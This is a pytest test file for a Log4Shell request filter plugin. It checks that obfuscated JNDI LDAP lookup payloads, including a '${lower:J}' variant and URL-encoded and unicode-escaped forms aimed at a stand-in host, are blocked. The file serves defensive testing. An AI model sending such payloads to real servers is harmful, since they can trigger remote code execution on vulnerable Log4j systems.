"""NgLog4ShellFilter."""

import pytest

from oto_trio.plugin_api import Phase, PluginError, Refusal, Response, steps
from oto_trio.plugin_api.config import read_config
from oto_trio.plugins.security.ng_log4shell_filter import (
    BODY_BYTES,
    NgLog4ShellFilter,
    NgLog4ShellFilterConfig,
)
from oto_trio.testing import FakeExchange, play

CONFIG = NgLog4ShellFilterConfig(403, "no", parse_body=True)
CAUGHT = Response(403, (("Content-Type", "text/plain"),), b"no")
ATTACK = "${${lower:J}ndi:ldap://x/a}"


@pytest.mark.parametrize(
    ("url", "header", "body", "answer"),
    [
        ("http://api.localhost/", "a", b"", None),
        ("http://api.localhost/?a=${lower:jndi:}", "${env:HOME}", b"${a}", None),
        ("http://api.localhost/?a=%24%7Bjndi:ldap://x%7D", "a", b"", CAUGHT),
        ("http://api.localhost/$%7Bjndi:x", "a", b"", CAUGHT),
        ("http://api.localhost/", ATTACK, b"", CAUGHT),
        ("http://api.localhost/", "a", ATTACK.encode(), CAUGHT),
        ("http://api.localhost/", "a", rb'{"a":"\u0024\u007bjndi:x}"}', CAUGHT),
        (
            "http://api.localhost/",
            "a",
            b" " * (BODY_BYTES + 1),
            Refusal(413, "The body is longer than 1048576 bytes"),
        ),
    ],
)
async def test_an_attack_is_answered(
    url: str, header: str, body: bytes, answer: Response | None
) -> None:
    plugin = NgLog4ShellFilter(CONFIG)
    assert await play(plugin, FakeExchange.of("POST", url, {"X-A": header}, body)) == answer
    native = steps.Native("log4shell", Phase.TRANSFORM_REQUEST, CONFIG, undecided=True)
    assert plugin.lower() == (native,)


async def test_bodies_are_left_alone_unless_asked_for() -> None:
    exchange = FakeExchange.of("POST", "http://api.localhost/", {}, ATTACK.encode())
    assert await play(NgLog4ShellFilter(NgLog4ShellFilterConfig()), exchange) is None


@pytest.mark.parametrize("status", [0, 199, 600])
def test_a_status_that_ends_no_request_is_refused_when_the_config_is_read(status: int) -> None:
    with pytest.raises(PluginError, match=r"\$\.status"):
        read_config(NgLog4ShellFilterConfig, {"status": status})
